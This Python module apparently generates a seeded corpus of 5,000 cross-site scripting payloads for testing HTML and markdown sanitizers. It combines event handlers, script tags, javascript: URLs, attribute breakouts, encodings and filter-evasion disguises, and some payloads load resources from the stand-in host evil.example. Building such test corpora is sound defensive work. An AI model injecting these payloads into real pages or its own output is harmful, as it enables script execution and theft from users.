"""Texts that would run a script or fetch something if a page took them for markup: 5,000, made from parts in a fixed order.

The parts are the kinds that published lists have: tags with handlers, tags that fetch, addresses that run, ways out of attributes,
comments and raw text, encodings, markdown that becomes links and pictures, and blanks and case that filters overlook.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import product

COUNT = 5_000
_RUN = ["owned()", "window.owned++", "owned`1`", "top['owned']()", "(owned)()", "eval('owned()')", "setTimeout(owned)", "import('https://evil.example/x.js')"]
_FAR = ["https://evil.example/x", "//evil.example/x", "http:evil.example/x", "https:/\\evil.example/x", "HTTPS://evil.example/x"]
_HANDLERS = ["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "oncontentvisibilityautostatechange"]
_TAGS = [
    "<img src=x {h}={q}{r}{q}>", "<svg {h}={q}{r}{q}>", "<svg/{h}={q}{r}{q}>", "<body {h}={q}{r}{q}>", "<details open {h}={q}{r}{q}>",
    "<input autofocus {h}={q}{r}{q}>", "<video><source {h}={q}{r}{q}></video>", "<iframe srcdoc='<img src=x {h}={r}>'>",
    "<math><mtext><table><mglyph><style><img src=x {h}={q}{r}{q}>", "<a tabindex=1 {h}={q}{r}{q}>x</a>", "<marquee {h}={q}{r}{q}>", "<x {h}={q}{r}{q} style=animation-name:x>",
    "\"><img src=x {h}={q}{r}{q}>", "'><svg {h}={q}{r}{q}>", "--><img src=x {h}={q}{r}{q}>", "</textarea><img src=x {h}={q}{r}{q}>",
    "</script><img src=x {h}={q}{r}{q}>", "]]><img src=x {h}={q}{r}{q}>", "<svg><style><img src=x {h}={q}{r}{q}>", "<noscript><p title=\"</noscript><img src=x {h}={r}>\">",
]  # fmt: skip
_SCRIPTS = ["<script>{r}</script>", "<SCRIPT>{r}</SCRIPT>", "<script/x>{r}</script>", "<svg><script>{r}</script></svg>", "<scr<script>ipt>{r}</scr</script>ipt>", "<script\n>{r}</script >"]
_ADDRESSES = ["javascript:{r}", "JaVaScRiPt:{r}", "java\tscript:{r}", "\x01javascript:{r}", "&#106;avascript:{r}", "javascript&colon;{r}", "data:text/html,<script>{r}</script>", "vbscript:{r}", "javascript://%0a{r}"]
_USED = [
    "<a href=\"{a}\">x</a>", "<iframe src=\"{a}\"></iframe>", "<form action=\"{a}\"><button>x</button></form>", "<object data=\"{a}\"></object>", "<embed src=\"{a}\">",
    "[x]({a})", "[x](<{a}>)", "![x]({a})", "<{a}>", "[x]: {a}\n\n[x]", "[![x]({a})]({a})", "<base href=\"{a}\">", "<meta http-equiv=refresh content=\"0;url={a}\">",
]  # fmt: skip
_FETCHED = [
    "<img src=\"{f}\">", "<img srcset=\"{f} 1x\">", "<link rel=stylesheet href=\"{f}\">", "<link rel=prefetch href=\"{f}\">", "<style>@import '{f}';</style>", "<div style=\"background:url({f})\">x</div>",
    "<video poster=\"{f}\"></video>", "<audio src=\"{f}\" autoplay></audio>", "<svg><image href=\"{f}\"/></svg>", "<svg><use href=\"{f}#x\"/></svg>", "<script src=\"{f}\"></script>", "<table background=\"{f}\">",
    "![x]({f})", "![x][y]\n\n[y]: {f}", "![](<{f}>)", "![x]({f} \"t\")", "`![x]({f})`", "| a |\n|---|\n| ![x]({f}) |", "- ![x]({f})", "> ![x]({f})",
]  # fmt: skip
_DISGUISES = [
    lambda text: text, lambda text: text.replace("<", "\\<"), lambda text: text.replace("<", "&lt;"), lambda text: text.replace("<", "<\x00"),
    lambda text: f"```html\n{text}\n```", lambda text: f"`{text}`", lambda text: f"**{text}**", lambda text: f"# {text}", lambda text: text.upper(),
    lambda text: text.replace(" ", "/**/"), lambda text: "".join(f"&#{ord(letter)};" if letter in "<>\"'" else letter for letter in text), lambda text: f"\u202e{text}", lambda text: text * 2,
]  # fmt: skip


def _all() -> Iterator[str]:
    runs = product(_DISGUISES, _RUN)
    for (disguise, run), tag, handler, quote in product(runs, _TAGS, _HANDLERS, ("", '"', "'")):
        yield disguise(tag.format(h=handler, r=run, q=quote))
    for disguise, run, script in product(_DISGUISES, _RUN, _SCRIPTS):
        yield disguise(script.format(r=run))
    for disguise, run, address, use in product(_DISGUISES, _RUN, _ADDRESSES, _USED):
        yield disguise(use.format(a=address.format(r=run)))
    for disguise, far, fetched in product(_DISGUISES, _FAR, _FETCHED):
        yield disguise(fetched.format(f=far))


def hostile_texts(count: int = COUNT, *, seed: int = 5) -> list[str]:
    """`count` of the 5,000, the same each time. All kinds are among a few hundred."""
    made = list(dict.fromkeys(_all()))
    chosen = random.Random(seed).sample(made, COUNT)
    return chosen[:count]
